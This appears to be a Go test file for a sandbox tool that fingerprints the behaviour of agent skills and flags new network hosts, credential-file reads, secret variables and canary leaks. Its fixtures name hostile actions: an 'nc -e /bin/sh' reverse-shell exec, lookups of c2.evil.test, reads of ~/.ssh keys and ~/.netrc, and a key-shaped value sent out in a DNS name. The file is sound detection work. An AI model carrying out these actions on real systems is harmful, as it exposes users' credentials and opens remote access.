package fingerprint

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/sandboxctl/sandboxctl/rules"
	"github.com/sandboxctl/sandboxctl/trace"
)

// benign is what a benign skill does on every run.
func benign() []trace.Event {
	return timeline(bash("curl -s https://api.weather.test/today", 0, "sunny"),
		ev(trace.TypeDNSQuery, &trace.DNSQuery{Name: "api.weather.test"}),
		ev(trace.TypeHTTP, &trace.HTTPExchange{Host: "api.weather.test", TLS: true, DstPort: 443, Status: 200}),
		ev(trace.TypeExec, &trace.Exec{Path: "/usr/bin/curl", Argv: []string{"curl", "-s", "https://api.weather.test/today"}}),
		ev(trace.TypeOpen, &trace.File{Path: home + "/projects/app/README.md"}))
}

func with(es []trace.Event, more ...trace.Event) []trace.Event {
	out := slices.Clone(es)
	for _, e := range more {
		e.Seq = int64(len(out) + 1)
		out = append(out, e)
	}
	return out
}

func TestCompare(t *testing.T) {
	base := Build(input(), benign()).Capabilities()
	tests := []struct {
		name     string
		events   []trace.Event
		versions bool
		want     []string // type/severity
	}{
		{"the same behaviour", benign(), false, nil},
		{"the same hosts at other addresses", with(benign(),
			ev(trace.TypeHTTP, &trace.HTTPExchange{Host: "api.weather.test", TLS: true, DstIP: "203.0.113.9", DstPort: 443})), false, nil},
		{"a DNS lookup of a new host", with(benign(), ev(trace.TypeDNSQuery, &trace.DNSQuery{Name: "c2.evil.test"})), false,
			[]string{"new_network_target/medium"}},
		{"reading ~/.ssh", with(benign(), ev(trace.TypeOpen, &trace.File{Path: home + "/.ssh/id_ed25519"})), false,
			[]string{"new_filesystem_op/medium"}},
		{"a new project file", with(benign(), ev(trace.TypeOpen, &trace.File{Path: home + "/projects/app/go.mod"})), false,
			[]string{"new_filesystem_op/low"}},
		{"a secret-looking variable", with(benign(), bash("echo $AWS_SECRET_ACCESS_KEY", 0, "x")), false,
			[]string{"new_env_access/medium", "new_process_exec/low"}[:1]},
		{"a plain variable", with(benign(), bash("echo $LANG", 0, "x")), false, []string{"new_env_access/low"}},
		{"a new program", with(benign(), ev(trace.TypeExec, &trace.Exec{Path: "/usr/bin/nc", Argv: []string{"nc", "-e", "/bin/sh", "h", "1"}})), false,
			[]string{"new_process_exec/low"}},
		{"a secret leaving", with(benign(), ev(trace.TypeCanaryHit, &trace.CanaryHit{TokenID: "t1", Location: "~/.aws/credentials", Channel: "http"})), false,
			[]string{"new_output_pattern/high"}},
		{"two classes at once", with(benign(), ev(trace.TypeDNSQuery, &trace.DNSQuery{Name: "x.test"}),
			ev(trace.TypeOpen, &trace.File{Path: home + "/.netrc"})), false,
			[]string{"new_filesystem_op/medium", "new_network_target/medium", "capability_expansion/medium"}},
		{"a new version adding one host", with(benign(), ev(trace.TypeDNSQuery, &trace.DNSQuery{Name: "x.test"})), true,
			[]string{"new_network_target/medium", "capability_expansion/medium"}},
		{"a new version doing less", benign()[:2], true, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, a := range Compare(base, Build(input(), tt.events), "stable", tt.versions) {
				got = append(got, a.Type+"/"+string(a.Severity))
				if len(a.Evidence) == 0 {
					t.Errorf("%s has no evidence", a.Type)
				}
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("anomalies = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestFindings(t *testing.T) {
	es := with(benign(), ev(trace.TypeDNSQuery, &trace.DNSQuery{Name: "c2.evil.test"}))
	as := Compare(Build(input(), benign()).Capabilities(), Build(input(), es), "stable", false)
	fs := Findings(as, es)
	if len(fs) != 1 || fs[0].RuleID != "SBX-FP-002" || fs[0].Severity != rules.Medium || len(fs[0].Evidence) != 1 ||
		fs[0].Evidence[0].Seq != int64(len(es)) || fs[0].Evidence[0].Type != trace.TypeDNSQuery {
		t.Fatalf("findings = %+v", fs)
	}
	for typ, id := range RuleIDs {
		if _, ok := rules.Lookup(id); !ok {
			t.Errorf("%s: rule %s is not in the catalog", typ, id)
		}
	}
}

func TestHash(t *testing.T) {
	a := Capabilities{Network: []string{"dns:b", "dns:a", "dns:a"}}
	b := Capabilities{Network: []string{"dns:a", "dns:b"}, Filesystem: []string{}}
	if a.Hash() != b.Hash() {
		t.Error("the hash depends on order, duplicates or nil sets")
	}
	if len(a.Hash()) != 64 {
		t.Errorf("hash %q is not 256 bits of hex", a.Hash())
	}
	// The same key in another class is another capability set.
	c := Capabilities{Environment: []string{"dns:a", "dns:b"}}
	if c.Hash() == b.Hash() {
		t.Error("classes are not separated in the encoding")
	}
}

type step struct {
	sev    rules.Severity
	events []trace.Event
}

func observeAll(rule Rule, steps []step) (Fingerprint, []Result) {
	var f *Fingerprint
	var out []Result
	at := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	for i, s := range steps {
		nf, r := Observe(f, nil, Key{Skill: "demo"}, "v1", Run{At: at.Add(time.Duration(i) * time.Minute),
			MaxSeverity: s.sev, Profile: Build(input(), s.events)}, rule)
		f = &nf
		out = append(out, r)
	}
	return *f, out
}

func repeat(n int, s step) []step {
	var out []step
	for range n {
		out = append(out, s)
	}
	return out
}

func TestObserveStability(t *testing.T) {
	clean := step{"", benign()}
	tests := []struct {
		name       string
		steps      []step
		wantState  string
		wantStable int // invocation at which it became stable (0: never)
	}{
		{"ten clean runs", repeat(10, clean), Stable, 10},
		{"nine clean runs", repeat(9, clean), Learning, 0},
		{"a finding at medium restarts the streak", append(append(repeat(8, clean), step{rules.Medium, benign()}), repeat(5, clean)...), Stable, 14},
		{"low findings are absorbed", repeat(10, step{rules.Low, benign()}), Stable, 10},
		{"malicious from its first run", repeat(12, step{rules.Critical, benign()}), Learning, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, rs := observeAll(DefaultRule, tt.steps)
			if f.State != tt.wantState {
				t.Errorf("state = %s, want %s", f.State, tt.wantState)
			}
			became := 0
			for _, r := range rs {
				if r.State == Stable && became == 0 {
					became = r.Invocations
				}
			}
			if became != tt.wantStable {
				t.Errorf("stable at invocation %d, want %d", became, tt.wantStable)
			}
			if f.Invocations != len(tt.steps) {
				t.Errorf("invocations = %d", f.Invocations)
			}
		})
	}
}

func TestObserveNeverAbsorbsHarm(t *testing.T) {
	evil := with(benign(), ev(trace.TypeDNSQuery, &trace.DNSQuery{Name: "c2.evil.test"}))
	f, rs := observeAll(DefaultRule, repeat(12, step{rules.High, evil}))
	if f.Capabilities.Count() != 0 || f.Absorbed != 0 || rs[11].Absorbed {
		t.Errorf("a run with high findings was absorbed: %+v", f)
	}
	// After a benign baseline is stable, the malicious run is an anomaly
	// and stays out of it.
	steps := append(repeat(10, step{"", benign()}), step{rules.High, evil}, step{"", evil})
	f, rs = observeAll(DefaultRule, steps)
	if rs[9].Anomalies == nil {
		t.Error("anomalies are null, not [], in a result")
	}
	if rs[10].Absorbed || rs[11].Absorbed || len(rs[11].Anomalies) != 1 || rs[11].Anomalies[0].Type != NewNetworkTarget {
		t.Errorf("results after stability = %+v / %+v", rs[10], rs[11])
	}
	if slices.Contains(f.Capabilities.Network, "dns:c2.evil.test") || f.State != Stable || f.CleanStreak != 0 {
		t.Errorf("fingerprint = %+v", f)
	}
}

func TestObserveAcrossVersions(t *testing.T) {
	v1, _ := observeAll(DefaultRule, repeat(10, step{"", benign()}))
	v2 := with(benign(), ev(trace.TypeDNSQuery, &trace.DNSQuery{Name: "c2.evil.test"}))
	nf, r := Observe(nil, &v1, Key{Skill: "demo"}, "v2", Run{At: time.Now(), Profile: Build(input(), v2)}, DefaultRule)
	var types []string
	for _, a := range r.Anomalies {
		types = append(types, a.Type)
	}
	if !slices.Equal(types, []string{NewNetworkTarget, CapabilityExpansion}) || r.Baseline != "version:v1" || r.Absorbed || nf.State != Learning {
		t.Errorf("result = %+v", r)
	}
	// A new version that does the same is absorbed.
	_, r = Observe(nil, &v1, Key{Skill: "demo"}, "v3", Run{At: time.Now(), Profile: Build(input(), benign())}, DefaultRule)
	if len(r.Anomalies) != 0 || !r.Absorbed {
		t.Errorf("same behaviour, new version: %+v", r)
	}
}

func TestAccept(t *testing.T) {
	f, _ := observeAll(DefaultRule, repeat(3, step{"", benign()}))
	more := Build(input(), with(benign(), ev(trace.TypeDNSQuery, &trace.DNSQuery{Name: "cdn.test"}))).Capabilities()
	a := Accept(f, more, time.Now())
	if a.State != Stable || !slices.Contains(a.Capabilities.Network, "dns:cdn.test") || a.Hash != a.Capabilities.Hash() {
		t.Errorf("accepted = %+v", a)
	}
}

func TestCheckExtraRedacts(t *testing.T) {
	base, _ := observeAll(Rule{Threshold: 1, Streak: 1}, []step{{"", benign()}})
	in := input()
	es := with(benign(), ev(trace.TypeDNSQuery, &trace.DNSQuery{Name: "AKIAEXAMPLEEXAMPLE1.evil.test"}))
	fs := Check{Current: &base}.Extra()(in, es, nil)
	if len(fs) == 0 {
		t.Fatal("no finding for a new host")
	}
	for _, f := range fs {
		b, _ := json.Marshal(f)
		if strings.Contains(strings.ToUpper(string(b)), "AKIAEXAMPLEEXAMPLE1") {
			t.Errorf("a planted value reached a finding: %s", b)
		}
	}
	pb, _ := json.Marshal(Build(in, with(es, ev(trace.TypeExec, &trace.Exec{Path: "/x/AKIAEXAMPLEEXAMPLE1", Argv: []string{"x", "--k=1", "-AKIAEXAMPLEEXAMPLE1"}}),
		ev(trace.TypeOpen, &trace.File{Path: home + "/AKIAEXAMPLEEXAMPLE1.txt"}))))
	if strings.Contains(strings.ToUpper(string(pb)), "AKIAEXAMPLEEXAMPLE1") {
		t.Errorf("a planted value reached the profile: %s", pb)
	}
	if fs := (Check{}).Extra()(in, es, nil); fs != nil {
		t.Errorf("findings without a baseline: %+v", fs)
	}
}

func TestIdentity(t *testing.T) {
	for _, c := range []struct {
		name, in, want, err string
	}{
		{name: "publisher and name", in: "acme/weather", want: "acme/weather"},
		{name: "space and slashes trimmed", in: " /acme/weather/ ", want: "acme/weather"},
		{name: "none", in: "", want: ""},
		{name: "a path element ..", in: "acme/../weather", err: "path element"},
		{name: "a dot element", in: "./weather", err: "path element"},
		{name: "control character", in: "acme/\x1b[31mweather", err: "control character"},
		{name: "invalid UTF-8", in: "acme/\xffweather", err: "invalid byte"},
		{name: "too long", in: strings.Repeat("a", MaxIdentity+1), err: "over 200 bytes"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, err := Identity(c.in)
			if c.err != "" {
				if err == nil || !strings.Contains(err.Error(), c.err) {
					t.Fatalf("Identity(%q) = %q, %v; want an error with %q", c.in, got, err, c.err)
				}
				return
			}
			if err != nil || got != c.want {
				t.Fatalf("Identity(%q) = %q, %v; want %q", c.in, got, err, c.want)
			}
		})
	}
}

// FuzzIdentity: an identity taken is bounded, printable, and has no . or
// .. element and no leading slash.
func FuzzIdentity(f *testing.F) {
	f.Add("acme/weather")
	f.Add("/../x")
	f.Fuzz(func(t *testing.T, s string) {
		id, err := Identity(s)
		if err != nil {
			return
		}
		if len(id) > MaxIdentity || strings.HasPrefix(id, "/") || strings.ContainsAny(id, "\x00\n\r\x1b") {
			t.Fatalf("Identity(%q) = %q", s, id)
		}
		for _, el := range strings.Split(id, "/") {
			if el == "." || el == ".." {
				t.Fatalf("Identity(%q) = %q", s, id)
			}
		}
	})
}
